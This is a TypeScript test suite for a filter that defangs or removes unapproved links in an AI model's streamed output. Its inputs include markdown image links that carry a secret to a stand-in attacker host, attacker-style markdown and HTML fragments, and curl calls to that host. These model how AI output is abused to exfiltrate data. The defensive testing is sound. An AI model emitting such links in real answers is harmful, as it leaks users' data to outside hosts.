/** Links in the model's words, against what renderers make of what comes out. */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { linkFilter } from "../../../src/wire/links/link-filter.ts";
import { namedHosts } from "../../../src/wire/links/named-hosts.ts";
import { foreignHosts } from "./rendered-targets.ts";

interface Row {
  readonly words: string;
  readonly named: readonly string[];
  readonly keeps: readonly string[];
  readonly why: string;
}

const rows = readFileSync(join(import.meta.dirname, "data/links.jsonl"), "utf8")
  .trim()
  .split("\n")
  .map((line) => JSON.parse(line) as Row);

function guarded(pieces: readonly string[], named: readonly string[] = [], removes = false) {
  const changed: string[] = [];
  const rules = { named: namedHosts(named, []), removes, onChanged: (host: string) => changed.push(host) };
  const guard = linkFilter(rules);
  const out = pieces.map((piece) => guard.push(piece));
  return { text: out.join("") + guard.end(), out, changed };
}

const cut = (text: string, sizes: readonly number[]): readonly string[] => {
  const pieces: string[] = [];
  for (let at = 0, index = 0; at < text.length; index += 1) {
    const size = sizes[index % sizes.length] ?? 1;
    pieces.push(text.slice(at, at + size));
    at += size;
  }
  return pieces;
};

/** Some frontends trim an answer, and then its first line is no code. */
const NOT_KEPT = new Set(["indented by four: code, no definition"]);

describe("words written by readers who know no code", () => {
  it.each(rows)("$why: $words", ({ words, named, keeps, why }) => {
    const { text } = guarded([words], named);
    expect(foreignHosts(text, named)).toEqual([]);
    if (!NOT_KEPT.has(why)) for (const kept of keeps) expect(text).toContain(kept);
  });
});

/** Pieces of Markdown, such as an attacker would put together. */
const piece = fc.constantFrom(
  ...[
    "[",
    "](",
    ")",
    "]:",
    "][",
    "!",
    "<",
    ">",
    "`",
    "``",
    "```",
    "~~~",
    "\n",
    "\n\n",
    "    ",
    "  ",
    "- ",
    "1. ",
    "> ",
  ],
  ...["\\", "&colon;", "&#58;", "&amp;", '"', "'", "*", "_", "~~", "|", "# ", "\t", "\r\n", " ", "a", "x]: ", "[x]"],
  ...[
    "https://evil.example/p",
    "//evil.example",
    "http:",
    "https://docs.example/a",
    "www.evil.example",
    "ftp://evil.example",
  ],
  ...[
    "eve@evil.example",
    "<img src=",
    "<a href='",
    "<b>",
    "</b>",
    "<div>",
    "<!--",
    "-->",
    "<script>",
    "[^1]: ",
    "javascript:",
  ],
);
const markdown = fc.array(piece, { maxLength: 24 }).map((parts) => parts.join(""));

/** Lines whose meaning depends on the lines before them. */
const LINK = "![](https://evil.example/x)";
const start = fc.constantFrom(
  ...["", "", "", " ", "   ", "    ", "- ", "1. ", "2. ", "- - ", "> ", "> - ", "\t", "[^1]: ", ": "],
);
const rest = fc.constantFrom(
  ...[
    LINK,
    LINK,
    LINK,
    "```",
    "```",
    "````",
    "~~~",
    "```js",
    "``` a`b",
    "```~~~",
    "`",
    "``",
    `\`${LINK}\``,
    `a \`${LINK}\` b`,
  ],
  ...[
    "",
    "",
    "text",
    "<div>",
    "</div>",
    "<b>x</b>",
    "# h",
    "---",
    "===",
    "| a | b |",
    "|---|---|",
    `| \`x | ${LINK}\` |`,
    "[x]: /a",
  ],
  ...[
    '[x]: /a "',
    '"',
    `\\\`${LINK}\``,
    `<https://docs.example>\`${LINK}\``,
    `[a](b "\`") ${LINK} \``,
    `[a](<\`>) ${LINK} \``,
  ],
  ...[
    `\`\`\`${LINK}\`\`\``,
    `\`\`\` ${LINK}`,
    "<br>",
    "<pre>",
    "<!-- ",
    "-->",
    `https://docs.example/a\`<https://evil.example>\``,
  ],
);
const lines = fc
  .array(fc.tuple(start, rest), { minLength: 2, maxLength: 14 })
  .map((all) => all.map((parts) => parts.join("")).join("\n"));

describe("laws", () => {
  it("what_stays_is_code_for_every_renderer", () => {
    fc.assert(
      fc.property(lines, (text) => {
        expect(foreignHosts(guarded([text], ["docs.example"]).text, ["docs.example"])).toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });

  it("nothing_that_is_not_named_is_reached", () => {
    fc.assert(
      fc.property(markdown, (text) => {
        expect(foreignHosts(guarded([text], ["docs.example"]).text, ["docs.example"])).toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });

  it("how_the_text_is_cut_changes_nothing", () => {
    const sizes = fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 5 });
    fc.assert(
      fc.property(markdown, sizes, (text, pieces) => {
        const whole = guarded([text], ["docs.example"]);
        const parts = guarded(cut(text, pieces), ["docs.example"]);
        expect(parts.text).toBe(whole.text);
        expect(parts.changed).toEqual(whole.changed);
      }),
      { numRuns: 2_000 },
    );
  });

  it("words_without_links_pass_as_they_come", () => {
    const word = fc.constantFrom(
      ..."The cat, (sat) [1] on 3/4 a.b: x_y *z* `code` - 2 > 1! \n \n\n ```\n #é 日本 e.g. 10:30".split(" "),
    );
    fc.assert(
      fc.property(fc.array(word), (words) => {
        const pieces = words.map((one) => `${one} `);
        expect(guarded(pieces).out).toEqual(pieces);
      }),
    );
  });
});

describe("a link in a stream", () => {
  it("holds back nothing but the link", () => {
    const pieces = ["See ", "[the plan](", "https://evil.exa", "mple/?q=1", ") and ", "go on"];
    expect(guarded(pieces).out).toEqual([
      "See ",
      "[the plan]",
      "",
      "",
      " (https[://]evil[.]example/?q=1) and ",
      "go on",
    ]);
  });

  it("is changed where a backtick before it is never closed", () => {
    const pieces = ["a `b ", "https://evil.example ", "c", "\n"];
    expect(guarded(pieces).text).toBe("a `b https[://]evil[.]example c\n");
  });

  it("stays in code", () => {
    const text = "Run `curl https://evil.example` or\n\n```sh\ncurl https://evil.example\n```\n";
    expect(guarded(cut(text, [3])).text).toBe(text);
  });

  it("loses its address where the policy removes it", () => {
    const { text } = guarded(["![c](https://evil.example/?q=SECRET) www.evil.example/SECRET"], [], true);
    expect(text).toBe("![c] ([removed]) www[.][removed]");
  });

  it("is bounded: an endless address is broken where it begins", () => {
    const guard = linkFilter({ named: namedHosts([], []), removes: false });
    let out = guard.push("[x](https://evil.example/");
    for (let count = 0; count < 100; count += 1) out += guard.push("a".repeat(50));
    expect(out.length).toBeGreaterThan(2_500);
    expect(foreignHosts(out + guard.end(), [])).toEqual([]);
  });
});
